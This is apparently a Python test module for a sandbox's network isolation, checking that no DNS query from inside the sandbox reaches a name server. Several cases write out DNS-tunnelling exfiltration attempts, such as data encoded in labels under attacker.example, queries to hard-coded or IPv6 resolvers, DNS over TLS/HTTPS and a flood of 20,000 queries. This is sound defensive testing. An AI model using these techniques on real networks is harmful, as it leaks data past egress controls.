"""Lookups: nothing that a sandbox asks a name server leaves it."""

import subprocess

from live import allow
from suite import case


def no_lookup_left(c):
    assert c.net.since("dns") == [], "lookups arrived: %s" % c.net.since("dns")[:3]


def lookup_by_rule(c, name="ok.example"):
    """The control of all lookups: a connection to an allowed name is looked up, by the server."""
    c.box.rules(allow(name, 9999))
    c.net.mark()
    got = c.box.value("tcp(%r, 9999)" % name)
    c.control(got["got"] == "hello" and name in c.net.names(), "allowed name is looked up and reached")


def host_query(c, script):
    """A control outside of the sandbox: the same packet arrives from the machine itself."""
    subprocess.run(
        ["python3", "-c", "import sys; sys.path.insert(0, %r); from probe import *; %s" % (SELF, script)],
        check=True, timeout=20, stdout=subprocess.DEVNULL,
    )


SELF = __file__.rpartition("/")[0]


@case("lookup of a denied name", quick=True)
def denied_name(c):
    assert c.box.value("resolve('denied.example')")[0].startswith("198.18.")
    assert c.box.value("tcp('denied.example', 9999)")["got"] != "hello"
    no_lookup_left(c)
    lookup_by_rule(c)


@case("lookup with data in its labels", quick=True)
def labels(c):
    c.box.run(
        "for i in range(50): resolve('%x.%s.attacker.example' % (i, 'a1b2c3d4' * 6))"
    )
    no_lookup_left(c)
    lookup_by_rule(c, "x.attacker.example")


@case("lookup beneath an allowed name", quick=True)
def beneath_allowed(c):
    c.box.rules(allow("ok.example"))
    c.box.run("for i in range(20): resolve('data%d.ok.example' % i)")
    no_lookup_left(c)
    lookup_by_rule(c)


def add_types():
    for label, number in (("TXT", 16), ("MX", 15), ("SRV", 33), ("ANY", 255), ("NULL", 10), ("HTTPS", 65), ("AAAA", 28)):

        @case("lookup of type " + label, quick=label == "TXT")
        def of_type(c, number=number):
            assert c.box.value("dns('secret.attacker.example', %d)" % number)["code"] >= 0
            no_lookup_left(c)
            lookup_by_rule(c)


add_types()


@case("lookup over TCP", quick=True)
def over_tcp(c):
    assert c.box.value("dns('secret.attacker.example', over='tcp')")["code"] == 0
    no_lookup_left(c)
    lookup_by_rule(c)


@case("lookup at a hard-coded name server, UDP", quick=True)
def hard_coded_udp(c):
    c.box.rules({"allow": "203.0.113.53"}, default="allow")
    c.box.value("dns('secret.attacker.example', to='203.0.113.53')")
    no_lookup_left(c)
    host_query(c, "dns('secret.attacker.example', to='203.0.113.53')")
    c.control("secret.attacker.example" in c.net.names(), "the same packet from the machine arrives")


@case("lookup at a hard-coded name server, TCP", quick=True)
def hard_coded_tcp(c):
    c.box.rules({"allow": "203.0.113.53"}, default="allow")
    c.box.value("dns('secret.attacker.example', to='203.0.113.53', over='tcp')")
    no_lookup_left(c)
    host_query(c, "dns('secret.attacker.example', to='203.0.113.53', over='tcp')")
    c.control("secret.attacker.example" in c.net.names(), "the same query from the machine arrives")


@case("lookup at a name server by IPv6")
def hard_coded_v6(c):
    c.box.value("udp('2600:db8::53', 53, query('secret.attacker.example'), family=socket.AF_INET6)")
    no_lookup_left(c)
    host_query(c, "udp('2600:db8::53', 53, query('secret.attacker.example'), family=socket.AF_INET6)")
    c.control("secret.attacker.example" in c.net.names(), "the same packet from the machine arrives")


def add_encrypted():
    for label, port in (("DNS over TLS to a public resolver", 853), ("DNS over HTTPS to a public resolver", 443)):

        @case(label, quick=port == 443)
        def encrypted(c, port=port):
            c.box.rules(default="allow")
            got = c.box.value("tls('203.0.113.53', %d, sni='dns.example.com')" % port)
            assert not c.net.reached("203.0.113.53"), got
            attack = "tls('203.0.113.53', %d, sni='dns.example.com', path='/dns-query')" % port
            if not c.every_port:
                c.box.rules(allow("doh.example", port))
                attack = attack.replace("203.0.113.53", "doh.example")
            else:
                c.box.rules(allow("203.0.113.53", port))
            got = c.box.value(attack)
            c.control("/dns-query" in got["got"], "with a rule for it the resolver is reached")


add_encrypted()


@case("multicast DNS")
def multicast(c):
    c.box.value("udp('224.0.0.251', 5353, query('secret.local'))")
    assert not c.net.since("udp")
    host_query(c, "udp('203.0.113.10', 5353, query('secret.local'))")
    c.control(c.net.since("udp"), "a packet to this port from the machine arrives")


@case("damaged DNS messages", quick=True)
def damaged(c):
    c.box.run(
        """
head = struct.pack('!HHHHHH', 7, 0x0100, 1, 0, 0, 0)
for raw in (b'', b'x', head, head + b'\\xc0\\x0c\\0\\1\\0\\1', head + b'\\x3f' + b'a' * 10, head + b'\\x40' + b'a' * 64,
            head[:4] + b'\\xff\\xff' + head[6:] + b'\\0' * 20, head + b'\\1a' * 130 + b'\\0\\0\\1\\0\\1',
            head + b'\\5a\\0b.c\\7example\\0\\0\\1\\0\\1', head + b'\\0' * 1000, b'\\xff' * 512):
    for over in ('udp', 'tcp'):
        dns('', raw=raw, over=over)
"""
    )
    no_lookup_left(c)
    lookup_by_rule(c)


@case("names of 63, 64, 253 and 254 characters", quick=True)
def long_names(c):
    got = c.box.run(
        """
def codes(name):
    return dns(name)['code']
result['label63'] = codes('a' * 63 + '.example')
long = '.'.join(['b' * 49] * 5)
result['name253'] = codes(long + '.cc')
result['name254'] = codes(long + '.ccc')
result['length'] = len(long + '.cc')
"""
    )
    no_lookup_left(c)
    assert got["label63"] == 0 and got["length"] in (252, 253), got
    lookup_by_rule(c, ".".join(["b" * 48] * 5) + ".example")


@case("20,000 names")
def many_names(c):
    got = c.box.run(
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.connect((server(), 53))
start = time.time()
lost = 0
for i in range(20000):
    s.send(query('n%d.%s.attacker.example' % (i, 'x' * 50)))
    try:
        s.recv(600)
    except OSError:
        lost += 1
result['lost'], result['seconds'] = lost, time.time() - start
""", 300,
    )
    assert got["lost"] == 0, got
    no_lookup_left(c)
    lookup_by_rule(c)


@case("reverse lookups")
def reverse(c):
    got = c.box.run(
        "result['meta'] = dns('254.169.254.169.in-addr.arpa', 12)\n"
        "result['six'] = dns('1.0.0.0.ip6.arpa', 12)"
    )
    assert got["meta"]["code"] == 3 and got["six"]["code"] == 3, got
    no_lookup_left(c)
    lookup_by_rule(c)


@case("a name that resolves slowly delays no other name")
def slow(c):
    c.box.rules(allow("slow.example", 9999), allow("ok.example", 9999))
    got = c.box.run(
        """
import threading
slow = [threading.Thread(target=lambda: tcp('slow.example', 9999, timeout=1), daemon=True) for _ in range(5)]
for one in slow:
    one.start()
time.sleep(0.2)
start = time.time()
result['ok'] = tcp('ok.example', 9999)
result['seconds'] = time.time() - start
"""
    )
    assert got["ok"]["got"] == "hello" and got["seconds"] < 2, got
    c.control("slow.example" in c.net.names(), "the slow name is allowed and is looked up")
